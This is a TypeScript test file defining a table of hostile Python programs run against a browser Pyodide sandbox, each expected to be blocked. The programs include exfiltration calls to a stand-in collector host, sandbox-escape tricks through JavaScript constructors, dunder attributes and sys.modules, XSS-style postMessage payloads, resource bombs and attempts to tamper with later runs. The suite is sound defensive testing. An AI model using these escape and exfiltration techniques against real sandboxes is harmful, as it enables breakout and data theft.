/**
 * The attack suite's one table: hostile programs, each run through the real UI.
 * A program prints "ESCAPED ..." whenever something it tried got through, and
 * "blocked ..." when it did not. Add an attack by adding a row.
 */

/** Where attacks aim: the collector (another origin) and the app's own server, chat proxy included. */
export interface Targets {
  collector: string;
  app: string;
}

/** One attack. */
export interface Attack {
  name: string;
  /** Safe mode (SANDBOX_MODE) during the attack; off proves the browser boundary on its own. */
  safeMode: boolean;
  /** Extra settings before the run. */
  setup?: { timeout?: string; memory?: string; output?: string; forbiddenFunctions?: string };
  code(t: Targets): string;
  /** How long the run may take to end (default 45 s). */
  runTimeoutMs?: number;
  /** Final statuses the run may end in. */
  status: string[];
  /** Text the output must show (e.g. how the attack was stopped). */
  expect?: RegExp[];
  /**
   * Run again through the engine API (the console keeps only its newest 200,000 characters, with a marker),
   * its stdout must hold at least this many characters: output under the output limit must not vanish.
   */
  minOutputChars?: number;
  /** After the attack, a plain run must work (resource attacks). */
  thenRunWorks?: boolean;
  /** After the run, click every link and button in the HTML outputs: none may navigate its frame or reach a target. */
  clickLinks?: boolean;
  /** A later run in the same session, which the attack tried to change: it must end as given and print no "ESCAPED". */
  later?: { safeMode: boolean; code: string; status: string[]; expect?: RegExp[]; waitFor?: RegExp };
}

const urls = (t: Targets) => JSON.stringify([t.collector, `${t.app}/api/health`, `${t.app}/api/openai/v1/chat/completions`]);

/** Python that tries `attempt` (an indented block using `url`) against every target. */
const eachTarget = (t: Targets, label: string, attempt: string) =>
  [
    'import js',
    `for url in ${urls(t)}:`,
    '    try:',
    attempt
      .split('\n')
      .map((l) => `        ${l}`)
      .join('\n'),
    `        print("ESCAPED ${label}", url)`,
    '    except Exception as e:',
    `        print("blocked ${label}", type(e).__name__)`,
  ].join('\n');

const network: Attack[] = [
  {
    name: 'js.fetch',
    safeMode: false,
    code: (t) => eachTarget(t, 'fetch', 'await js.fetch(url)'),
    status: ['ok'],
    expect: [/blocked fetch[^]*blocked fetch[^]*blocked fetch/],
  },
  {
    name: 'pyodide.http.pyfetch',
    safeMode: false,
    code: (t) => `from pyodide.http import pyfetch\n${eachTarget(t, 'pyfetch', 'await pyfetch(url)')}`,
    status: ['ok'],
    expect: [/blocked pyfetch[^]*blocked pyfetch[^]*blocked pyfetch/],
  },
  {
    name: 'pyodide.http.open_url (synchronous XHR)',
    safeMode: false,
    code: (t) => `from pyodide.http import open_url\n${eachTarget(t, 'open_url', 'open_url(url)')}`,
    status: ['ok'],
    expect: [/blocked open_url[^]*blocked open_url[^]*blocked open_url/],
  },
  {
    name: 'XMLHttpRequest',
    safeMode: false,
    code: (t) => eachTarget(t, 'xhr', 'x = js.XMLHttpRequest.new()\nx.open("POST", url, False)\nx.send("secret")'),
    status: ['ok'],
    expect: [/blocked xhr[^]*blocked xhr[^]*blocked xhr/],
  },
  {
    name: 'WebSocket',
    safeMode: false,
    code: (t) =>
      [
        'import js, asyncio',
        `for url in ${JSON.stringify([t.collector.replace('http', 'ws'), t.app.replace('http', 'ws') + '/'])}:`,
        '    try:',
        '        ws = js.WebSocket.new(url)',
        '        await asyncio.sleep(0.5)',
        '        if ws.readyState == 1:',
        '            print("ESCAPED websocket", url)',
        '        else:',
        '            print("blocked websocket state", ws.readyState)',
        '    except Exception as e:',
        '        print("blocked websocket", type(e).__name__)',
      ].join('\n'),
    status: ['ok'],
    expect: [/blocked websocket[^]*blocked websocket/],
  },
  {
    name: 'importScripts',
    safeMode: false,
    code: (t) => eachTarget(t, 'importScripts', 'js.importScripts(url)'),
    status: ['ok'],
    expect: [/blocked importScripts[^]*blocked importScripts/],
  },
  {
    name: 'nested Worker (from a URL and from a blob that fetches)',
    safeMode: false,
    code: (t) =>
      [
        eachTarget(t, 'worker', 'js.Worker.new(url)'),
        'from pyodide.ffi import to_js',
        `blob = js.Blob.new(to_js(['fetch("${t.collector}blob-worker")']), to_js({"type": "text/javascript"}, dict_converter=js.Object.fromEntries))`,
        'w = js.Worker.new(js.URL.createObjectURL(blob))',
        'import asyncio',
        'await asyncio.sleep(1)',
        'print("blob worker started; its fetch is checked by the collector")',
      ].join('\n'),
    status: ['ok'],
    expect: [/blocked worker[^]*blocked worker/],
  },
  {
    name: 'navigator.sendBeacon and EventSource',
    safeMode: false,
    code: (t) =>
      eachTarget(
        t,
        'beacon',
        'if not js.navigator.sendBeacon(url, "secret"):\n    raise RuntimeError("refused")\nes = js.EventSource.new(url)',
      ),
    status: ['ok'],
    expect: [/blocked beacon[^]*blocked beacon[^]*blocked beacon/],
  },
  {
    name: 'an <img>-style fetch through the JS side (no-cors, createImageBitmap)',
    safeMode: false,
    code: (t) =>
      eachTarget(
        t,
        'img',
        'from pyodide.ffi import to_js\nr = await js.fetch(url, to_js({"mode": "no-cors"}, dict_converter=js.Object.fromEntries))\nawait js.createImageBitmap(await r.blob())',
      ),
    status: ['ok'],
    expect: [/blocked img[^]*blocked img[^]*blocked img/],
  },
  {
    name: 'network in safe mode: refused before it runs',
    safeMode: true,
    code: (t) => eachTarget(t, 'fetch', 'await js.fetch(url)'),
    status: ['security'],
    expect: [/js-access/],
  },
];

const escapes: Attack[] = [
  {
    name: 'to_js([]).constructor.constructor("return globalThis")(): refused in safe mode',
    safeMode: true,
    code: () => 'from pyodide.ffi import to_js\ng = to_js([]).constructor.constructor("return globalThis")()\nprint("ESCAPED", g)',
    status: ['security'],
    expect: [/js-access/],
  },
  {
    name: 'to_js([]).constructor.constructor("return globalThis")(): EvalError without safe mode',
    safeMode: false,
    code: () =>
      'from pyodide.ffi import to_js\ntry:\n    g = to_js([]).constructor.constructor("return globalThis")()\n    print("ESCAPED", g)\nexcept Exception as e:\n    print("blocked", type(e).__name__, str(e)[:80])',
    status: ['ok'],
    expect: [/blocked JsException EvalError/],
  },
  {
    name: 'the import hook holds when validate_code cannot see the import',
    safeMode: true,
    setup: { forbiddenFunctions: 'eval, exec, open, compile' },
    code: () =>
      'for name in ["py" + "odide.ffi", "j" + "s", "pyodide" + "_js", "micro" + "pip", "ctyp" + "es"]:\n    try:\n        __import__(name)\n        print("ESCAPED", name)\n    except ImportError as e:\n        print("blocked", type(e).__name__, e.rule)',
    status: ['ok'],
    expect: [/blocked SecurityViolation blocked-module[^]*blocked SecurityViolation module-allowlist/],
  },
  {
    name: 'gc.get_objects() walk: refused in safe mode',
    safeMode: true,
    code: () => 'import gc\nfor o in gc.get_objects():\n    pass',
    status: ['security'],
    expect: [/import-not-allowed/],
  },
  {
    name: 'gc.get_objects() walk to JS objects: still no network or storage',
    safeMode: false,
    code: (t) =>
      [
        'import gc, js',
        'tried = 0',
        'for o in gc.get_objects():',
        '    if type(o).__name__.startswith("Js") and hasattr(o, "fetch"):',
        '        tried += 1',
        '        try:',
        `            await o.fetch("${t.collector}gc")`,
        '            print("ESCAPED gc fetch")',
        '        except Exception as e:',
        '            pass',
        '        if tried > 5: break',
        'print("gc walk done", tried)',
      ].join('\n'),
    status: ['ok'],
    expect: [/gc walk done/],
  },
  {
    name: '().__class__.__base__.__subclasses__(): refused in safe mode',
    safeMode: true,
    code: () => 'for c in ().__class__.__base__.__subclasses__():\n    print(c)',
    status: ['security'],
    expect: [/dunder-access/],
  },
  {
    name: 'sys.modules restoration: refused in safe mode',
    safeMode: true,
    code: () => 'import sys\njs = sys.modules["js"]\nsys.modules["os"] = js\nprint("ESCAPED", js)',
    status: ['security'],
    expect: [/sys-modules/],
  },
  {
    name: 'sys.modules through a computed getattr: refused in safe mode',
    safeMode: true,
    code: () => 'import sys\nmods = getattr(sys, "mod" + "ules")\njs = mods.get("js")\nprint("ESCAPED", js)',
    status: ['security'],
    expect: [/dynamic-access/],
  },
  {
    name: 'sys.modules through a computed getattr without safe mode: the JS module is reachable, the network is not',
    safeMode: false,
    code: (t) =>
      `import sys\nmods = getattr(sys, "mod" + "ules")\njs = mods.get("js") or mods.get("pyodide_js")\ntry:\n    await js.fetch("${t.collector}modules")\n    print("ESCAPED")\nexcept Exception as e:\n    print("blocked", type(e).__name__)`,
    status: ['ok', 'error'],
    expect: [/blocked|AttributeError|TypeError/],
  },
  {
    name: 'importlib tricks',
    safeMode: true,
    setup: { forbiddenFunctions: 'eval, exec, open, compile' },
    code: () =>
      'try:\n    il = __import__("import" + "lib")\n    il.import_module("js")\n    print("ESCAPED")\nexcept ImportError as e:\n    print("blocked", type(e).__name__, e.module)',
    status: ['ok'],
    expect: [/blocked SecurityViolation importlib/],
  },
];

const storage: Attack[] = [
  {
    name: 'IndexedDB, Cache Storage, cookies and localStorage',
    safeMode: false,
    code: () =>
      [
        'import js',
        'async def attempt(label, fn):',
        '    try:',
        '        await fn()',
        '        print("ESCAPED", label)',
        '    except Exception as e:',
        '        print("blocked", label, type(e).__name__)',
        'async def idb():',
        '    js.indexedDB.open("steal")',
        'async def cache():',
        '    c = await js.caches.open("steal")',
        'async def cookies():',
        '    await js.cookieStore.set("steal", "1")',
        'async def local():',
        '    js.localStorage.setItem("steal", "1")',
        'for label, fn in [("indexedDB", idb), ("caches", cache), ("cookieStore", cookies), ("localStorage", local)]:',
        '    await attempt(label, fn)',
      ].join('\n'),
    status: ['ok'],
    expect: [/blocked indexedDB[^]*blocked caches[^]*blocked cookieStore[^]*blocked localStorage/],
  },
];

const hostPage: Attack[] = [
  {
    name: 'forged postMessage with HTML payloads is dropped',
    safeMode: false,
    code: () =>
      [
        'import js',
        'payload = {"type": "output", "id": 1, "chunks": [{"stream": "stdout", "text": "<img src=x onerror=\\"document.title=1\\">FORGED"}]}',
        'for label, target in [("self", js.self), ("globalThis", js.globalThis), ("prototype", js.Object.getPrototypeOf(js.self))]:',
        '    try:',
        '        target.postMessage(payload)',
        '        print("ESCAPED post", label)',
        '    except Exception as e:',
        '        print("blocked post", label, type(e).__name__)',
      ].join('\n'),
    status: ['ok'],
    expect: [/blocked post self[^]*blocked post globalThis[^]*blocked post prototype/],
  },
  {
    name: 'output with <script> and <img onerror> is shown as text',
    safeMode: true,
    code: () => "print('<script>document.title=\"pwned\"</script>')\nprint('<img src=x onerror=\"document.title=\\'pwned\\'\">')",
    status: ['ok'],
    expect: [/<script>document.title="pwned"<\/script>/, /<img src=x onerror=/],
  },
];

const resources: Attack[] = [
  {
    name: 'memory bomb',
    safeMode: true,
    setup: { memory: '256' },
    code: () => 'x = bytearray(1024 * 2**20)',
    status: ['memory'],
    thenRunWorks: true,
  },
  {
    name: 'JavaScript memory through js, 1.5 GB in large buffers: the allocation guard refuses it before it is made, status memory',
    safeMode: false,
    setup: { memory: '256' },
    code: () => 'import js\nkeep = [js.Uint8Array.new(100 * 2**20) for _ in range(15)]\nprint("ESCAPED: allocated 1.5 GB through js")',
    status: ['memory'],
    expect: [
      /Stopped: JavaScript memory of 300 MB asked for through js .* would pass the memory limit of 256 MB, so the allocation was refused/,
    ],
    thenRunWorks: true,
  },
  {
    name: 'JavaScript memory through js, refused and caught by the program: the run still ends with status memory',
    safeMode: false,
    setup: { memory: '256' },
    code: () =>
      [
        'import js',
        'keep = []',
        'try:',
        '    while True:',
        '        keep.append(js.ArrayBuffer.new(64 * 2**20))',
        'except Exception as e:',
        '    print("caught", type(e).__name__)',
        'print("went on after the refusal")',
      ].join('\n'),
    status: ['memory'],
    expect: [/caught JsException/, /went on after the refusal/, /would pass the memory limit of 256 MB, so the allocation was refused/],
    thenRunWorks: true,
  },
  {
    name: 'JavaScript memory through js in small buffers (under the guard), held by a running program: the memory watch ends it (Chromium)',
    safeMode: false,
    setup: { memory: '256', timeout: '90' },
    code: () =>
      [
        'import asyncio, js',
        'keep = [js.ArrayBuffer.new(512 * 1024) for _ in range(1200)]',
        'print("holding 600 MB outside the wasm heap", flush=True)',
        'await asyncio.sleep(80)',
        'print("ESCAPED: held 600 MB of JavaScript memory for 80 s")',
      ].join('\n'),
    // Chromium runs the tests with ForceEagerMeasureMemory: the first measurement after the allocation ends it.
    runTimeoutMs: 30_000,
    status: ['memory'],
    expect: [/holding 600 MB/, /JavaScript memory of \d+ MB/],
    thenRunWorks: true,
  },
  {
    name: 'JavaScript memory through js, under the guard in each piece, kept after the run: the interpreter is replaced (Chromium)',
    safeMode: false,
    setup: { memory: '256' },
    code: () =>
      'import js\nkeep = [js.ArrayBuffer.new(100 * 2**20) for _ in range(2)] + [js.ArrayBuffer.new(512 * 1024) for _ in range(400)]\nprint("kept 400 MB")',
    status: ['ok'],
    expect: [/kept 400 MB/],
    later: {
      safeMode: false,
      waitFor: /JavaScript memory of \d+ MB/,
      code: 'print("keep" in globals())',
      status: ['ok'],
      expect: [/False/],
    },
  },
  {
    name: 'a flood of 20,000 rich outputs: at most 200 shown, the rest counted, the page stays responsive',
    safeMode: true,
    setup: { output: '5000000' },
    code: () => 'from executor import HTML\nfor i in range(20_000):\n    display(HTML(f"<b>{i}</b>"))\nprint("flooded")',
    status: ['ok'],
    expect: [/flooded/, /More rich outputs not shown: a run shows at most 200/],
    thenRunWorks: true,
  },
  {
    name: 'an SVG <use> bomb, as an image and inline in HTML, is not drawn',
    safeMode: true,
    code: () =>
      [
        'from executor import HTML, SVG',
        'parts = [\'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><defs><rect id="l0" width="1" height="1"/>\']',
        'for i in range(1, 8):',
        '    parts.append(f\'<g id="l{i}">\' + f\'<use href="#l{i - 1}"/>\' * 10 + "</g>")',
        'parts.append(\'</defs><use href="#l7"/></svg>\')',
        'bomb = "".join(parts)',
        'display(SVG(bomb))',
        'display(HTML("<p>inline:</p>" + bomb))',
        'print("bombs shown", len(bomb))',
      ].join('\n'),
    status: ['ok'],
    expect: [/bombs shown/, /would draw more than 100,000 shapes/],
    thenRunWorks: true,
  },
  {
    name: 'recursion bomb',
    safeMode: true,
    code: () => 'def f(n):\n    return f(n + 1)\nf(0)',
    status: ['error'],
    expect: [/RecursionError/],
    thenRunWorks: true,
  },
  {
    name: 'output flood',
    safeMode: true,
    code: () => 'for i in range(300000):\n    print("flood", i)',
    status: ['ok'],
    expect: [/output truncated/],
    thenRunWorks: true,
  },
  {
    name: 'infinite loop that swallows KeyboardInterrupt',
    safeMode: true,
    setup: { timeout: '2' },
    code: () => 'while True:\n    try:\n        while True:\n            pass\n    except KeyboardInterrupt:\n        pass',
    status: ['timeout'],
    thenRunWorks: true,
  },
  {
    name: 'a huge single line',
    safeMode: true,
    code: () => 'print("A" * 50_000_000)',
    status: ['ok'],
    expect: [/output truncated/],
    thenRunWorks: true,
  },
  {
    name: 'deep nesting in the parser: refused in safe mode',
    safeMode: true,
    code: () => `x = ${'['.repeat(150)}${']'.repeat(150)}`,
    status: ['security'],
    expect: [/too-complex/],
    thenRunWorks: true,
  },
  // Chromium's worker stack is deeper than Node's: the parser may cope (ok), refuse (SyntaxError) or crash the interpreter (replaced).
  {
    name: 'deep nesting in the parser without safe mode',
    safeMode: false,
    code: () => `x = ${'['.repeat(199)}${']'.repeat(199)}\ny = ${'('.repeat(5000)}`,
    status: ['ok', 'crashed', 'error'],
    thenRunWorks: true,
  },
];

/** Every attack, by group. */
/** Results and output the page must never refuse silently: each run ends with what it could show. */
const wedges: Attack[] = [
  {
    name: 'an exception message larger than a message to the page is cut with a marker, and the run ends',
    safeMode: true,
    code: () => 'raise ValueError("x" * 3_000_000)',
    status: ['error'],
    expect: [/ValueError/, /cut: too long to show/],
    thenRunWorks: true,
  },
  {
    name: 'clocks patched to give NaN: the metrics are made finite and the run ends',
    safeMode: false,
    code: () => 'import time\ntime.process_time = lambda: float("nan")\ntime.perf_counter = lambda: float("nan")\nprint("patched")',
    status: ['ok'],
    expect: [/patched/],
    thenRunWorks: true,
  },
  {
    name: 'one print larger than a message to the page arrives whole, in batches',
    safeMode: true,
    setup: { output: '5000000' },
    code: () => 'print("y" * 2_100_000)\nprint("after the big one", flush=True)',
    status: ['ok'],
    expect: [/after the big one/],
    minOutputChars: 2_100_000,
    thenRunWorks: true,
  },
];

/** HTML and Markdown outputs whose links, forms and refreshes try to navigate their frame to a target. */
const navigation: Attack[] = [
  {
    name: 'links, forms and meta refresh in HTML and Markdown output do not navigate',
    safeMode: true,
    code: (t) =>
      [
        'from executor import HTML, Markdown, display',
        `collector = ${JSON.stringify(t.collector)}`,
        `app = ${JSON.stringify(t.app)}`,
        'display(HTML(f\'<a id="out" href="{collector}/?secret=42">collector</a> <a href="{app}/api/config" target="_top">config</a> \'',
        '    f\'<a href="#here">fragment</a> <form action="{collector}/form"><button>submit</button></form> \'',
        '    f\'<svg width="40" height="20"><a href="{collector}/svg"><text y="15">svg</text></a></svg>\'',
        '    f\'<meta http-equiv="refresh" content="0;url={collector}/refresh"><p id="here">end</p>\'))',
        'display(Markdown(f"[markdown link]({collector}/md)"))',
        'print("shown")',
      ].join('\n'),
    status: ['ok'],
    expect: [/shown/],
    clickLinks: true,
    thenRunWorks: true,
  },
];

/** Programs that try to change what later runs do, or to keep working after their run ended. */
const tampering: Attack[] = [
  {
    name: "a listener or onmessage of the program's cannot rewrite a later run's code",
    safeMode: false,
    code: () =>
      [
        'import js',
        'from pyodide.ffi import create_proxy',
        'def rewrite(event):',
        '    try:',
        '        event.data.code = \'print("ESCAPED: 2 + 2 = 5")\'',
        '    except Exception:',
        '        pass',
        'js.self.onmessage = create_proxy(rewrite)',
        'js.self.addEventListener("message", create_proxy(rewrite))',
        'print("listening")',
      ].join('\n'),
    status: ['ok'],
    expect: [/listening/],
    later: { safeMode: false, code: 'print("2 + 2 =", 2 + 2)', status: ['ok'], expect: [/2 \+ 2 = 4/] },
  },
  {
    name: "a patched MessageEvent.prototype.data cannot rewrite a later run's code",
    safeMode: false,
    code: () =>
      [
        'import js',
        'from pyodide.ffi import create_proxy, to_js',
        'real = js.Object.getOwnPropertyDescriptor(js.MessageEvent.prototype, "data").get',
        'def fake(this):',
        '    data = real.call(this)',
        '    if getattr(data, "type", None) != "run":',
        '        return data',
        '    copy = js.Object.assign(js.Object.new(), data)',
        '    copy.code = \'print("ESCAPED: 2 + 2 = 5")\'',
        '    return copy',
        'getter = to_js({"get": create_proxy(fake, capture_this=True), "configurable": True}, dict_converter=js.Object.fromEntries)',
        'js.Object.defineProperty(js.MessageEvent.prototype, "data", getter)',
        'print("patched")',
      ].join('\n'),
    status: ['ok'],
    expect: [/patched/],
    later: { safeMode: false, code: 'print("2 + 2 =", 2 + 2)', status: ['ok'], expect: [/2 \+ 2 = 4/] },
  },
  {
    name: 'a run without safe mode cannot switch safe mode off for a later run',
    safeMode: false,
    // __import__ allowed, so the later run gets past validate_code and meets the runtime checks.
    setup: { forbiddenFunctions: 'eval, exec, open, compile' },
    code: () =>
      [
        'import _executor.policy as policy',
        'policy.activate = lambda *args, **kwargs: None',
        'policy.check_module = lambda name: None',
        'print("policy patched")',
      ].join('\n'),
    status: ['ok'],
    expect: [/policy patched/],
    later: {
      safeMode: true,
      code: 'for name in ["j" + "s", "pyodide" + "_js"]:\n    try:\n        __import__(name)\n        print("ESCAPED", name)\n    except ImportError as e:\n        print("blocked", type(e).__name__)',
      status: ['ok'],
      expect: [/blocked SecurityViolation/, /fresh interpreter/],
    },
  },
  {
    name: 'an asyncio task left running is cancelled when its run ends',
    safeMode: true,
    code: () =>
      [
        'import asyncio',
        'async def spin():',
        '    while True:',
        '        await asyncio.sleep(0.05)',
        '        print("ESCAPED: still computing after the run")',
        'task = asyncio.ensure_future(spin())',
        'print("started")',
      ].join('\n'),
    status: ['ok'],
    expect: [/started/, /1 asyncio task.*cancelled/],
    later: {
      safeMode: true,
      code: 'import asyncio\nawait asyncio.sleep(1)\nprint("quiet", task.cancelled())',
      status: ['ok'],
      expect: [/quiet True/],
    },
  },
  {
    name: 'JS intervals and timers left by a run are cancelled when it ends',
    safeMode: false,
    code: () =>
      [
        'import js',
        'from pyodide.ffi import create_proxy',
        'tick = create_proxy(lambda: print("ESCAPED: interval after the run"))',
        'js.setInterval(tick, 50)',
        'js.setTimeout(tick, 300)',
        'print("scheduled")',
      ].join('\n'),
    status: ['ok'],
    expect: [/scheduled/, /2 timers.*cancelled/],
    later: { safeMode: false, code: 'import asyncio\nawait asyncio.sleep(1)\nprint("quiet")', status: ['ok'], expect: [/quiet/] },
  },
  {
    name: 'a callback that spins after its run ends: the next run gets a fresh interpreter',
    safeMode: false,
    code: () =>
      [
        'import js',
        'from pyodide.ffi import create_proxy',
        'channel = js.MessageChannel.new()',
        'def spin(event):',
        '    while True:',
        '        pass',
        'channel.port1.onmessage = create_proxy(spin)',
        'channel.port2.postMessage(0)',
        'print("left a spinning callback")',
      ].join('\n'),
    status: ['ok'],
    expect: [/left a spinning callback/],
    later: { safeMode: false, code: 'print("next run works")', status: ['ok'], expect: [/still busy/, /next run works/] },
  },
  {
    name: 'a program that makes Pyodide fail fatally: the next run is served by a fresh interpreter',
    safeMode: false,
    code: () => 'import js, pyodide_js\ntry:\n    pyodide_js._api.fatal_error(js.Error.new("boom"))\nexcept BaseException:\n    pass',
    status: ['crashed'],
    expect: [/fresh interpreter was started/, /fatal error and can no longer be used/],
    thenRunWorks: true,
  },
];

export const ATTACKS: Record<string, Attack[]> = {
  network,
  escapes,
  storage,
  'host page': hostPage,
  resources,
  wedges,
  tampering,
  navigation,
};
